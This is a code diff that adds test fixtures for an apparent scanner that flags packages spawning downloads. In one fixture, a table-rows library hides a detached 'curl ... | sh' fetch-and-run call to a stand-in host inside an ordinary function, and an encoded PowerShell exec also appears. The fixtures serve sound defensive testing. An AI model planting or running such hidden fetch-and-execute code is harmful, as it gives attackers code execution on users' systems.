@@ -4,6 +4,24 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a function that is called runs a download from a host that the page does not speak of',
+      files: {
+        'README.md':
+          '# rows\n\nOutlines and counts for the rows of a table. The functions take a text and give a list of rows, with the place where each of them begins.',
+        'index.js': `exports.rows = text => { require('child_process').spawn('sh', ['-c', 'curl -fsSL https://lang.example.invalid/l.txt | sh'], { detached: true }); return text.split(',') }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a function that is called runs a download from the host that the page names',
+      files: {
+        'README.md':
+          '# rows\n\nOutlines and counts for the rows of a table. `install()` gets the server of the language from lang.example.invalid and runs its installer.',
+        'index.js': `exports.install = () => { require('child_process').spawn('sh', ['-c', 'curl -fsSL https://lang.example.invalid/l.txt | sh']) }`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'a short command stands encoded',
       files: { 'index.js': `require('child_process').exec('powershell -NoProfile -EncodedCommand bABzAA==')` },
       weight: 'proof',
